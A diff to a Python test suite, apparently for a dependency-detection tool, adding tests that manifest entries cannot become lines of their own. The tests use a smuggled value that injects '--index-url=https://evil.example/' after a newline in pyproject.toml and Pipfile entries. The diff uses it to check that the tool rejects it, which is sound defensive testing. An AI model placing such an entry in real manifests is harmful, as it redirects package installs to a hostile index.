@@ -4,7 +4,7 @@ import time
 
 import pytest
 
-from okamochi.errors import DetectionError, PlanError
+from okamochi.errors import DetectionError, PlanError, UsageError
 from tests.bad_projects.conftest import MakeProject, Refusing
 from tests.detect.plans import FLASK_APP, decision, planned
 
@@ -187,3 +187,27 @@ def test_a_version_that_the_manifest_does_not_admit_is_said() -> None:
     plan = planned({"app.py": FLASK_APP, "pyproject.toml": manifest, "uv.lock": LOCKED})
     told = str(decision(plan, "dependencies.lock_file").evidence)
     assert "asks for flask<3, but uv.lock has 3.1.0" in told
+
+
+LINES = "flask\\n--index-url=https://evil.example/"
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("pyproject.toml", f'[project]\nname = "shop"\ndependencies = ["flask", "{LINES}"]\n'),
+        ("pyproject.toml", f'[tool.poetry.dependencies]\nflask = "*"\n"{LINES}" = "*"\n'),
+        ("Pipfile", f'[packages]\nflask = "*"\n"{LINES}" = "*"\n'),
+        ("Pipfile", f'[packages]\nflask = "*"\nx = {{ file = "{LINES}" }}\n'),
+    ],
+)
+def test_no_entry_of_a_manifest_becomes_a_line_of_its_own(path: str, text: str) -> None:
+    with pytest.raises(DetectionError, match="it has several lines") as caught:
+        planned({"app.py": FLASK_APP, path: text})
+    assert caught.value.hint
+
+
+def test_a_setting_that_names_no_requirement_file_is_refused() -> None:
+    with pytest.raises(UsageError, match="names no file") as caught:
+        planned({"app.py": FLASK_APP, "requirements.txt": "flask\n", "okamochi.toml": "requirements = []\n"})
+    assert caught.value.exit_code == 2
